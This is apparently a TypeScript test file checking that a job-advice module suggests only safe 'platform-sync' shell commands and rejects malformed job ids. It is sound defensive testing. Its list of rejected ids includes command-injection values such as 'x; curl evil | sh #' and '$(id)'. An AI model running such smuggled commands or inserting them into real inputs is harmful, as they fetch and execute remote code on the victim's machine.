import { execFileSync } from 'node:child_process';
import fc from 'fast-check';
import { expect, test } from 'vitest';
import { adviceFor, adviceSentence } from '../../lib/jobs/job-advice.ts';

/** The arguments that a POSIX shell passes to the suggested command; undefined if no command is suggested. */
function argumentsIn(advice: string): readonly string[] | undefined {
  const command = advice.split('platform-sync ')[1];
  if (command === undefined) return undefined;
  const printed = execFileSync('sh', ['-c', `printf '%s\\n' ${command}`], { encoding: 'utf8' });
  return printed.split('\n').slice(0, -1);
}

test.each([
  ['a-1', 'failed', ['redrive', 'a-1']],
  ['-a', 'failed', ['redrive', '--', '-a']],
  ['may.chunk-00001', 'failed', ['redrive', '--batch=may']],
  ['a-1', 'unknown', ['jobs', 'resolve', '--note', 'WHAT YOU SAW', 'a-1', 'done']],
  ['--json', 'unknown', ['jobs', 'resolve', '--note', 'WHAT YOU SAW', '--', '--json', 'done']],
] as const)('the command for %s, %s, consists of safe shell words', (id, status, words) => {
  expect(argumentsIn(adviceSentence(id, status))).toEqual(words);
});

test.each(['x; curl evil | sh #', '', 'a\nb', '$(id)', "a'b", 'ID with spaces', 'é', 'x'.repeat(129)])(
  'no command is suggested for %j, which is not a job id',
  (id) => {
    expect(adviceFor(id, 'failed')).toEqual({ say: expect.stringContaining('not the id of a job') });
    expect(adviceSentence(id, 'unknown')).not.toContain('platform-sync ');
  },
);

test('whatever the id, the suggested command contains only safe characters', () => {
  fc.assert(
    fc.property(fc.string({ unit: 'binary' }), fc.constantFrom('failed', 'unknown'), (id, status) => {
      const [, command = ''] = adviceSentence(id, status).split('platform-sync ');

      expect(command).toMatch(/^[A-Za-z0-9._:= '-]*$/);
    }),
  );
});
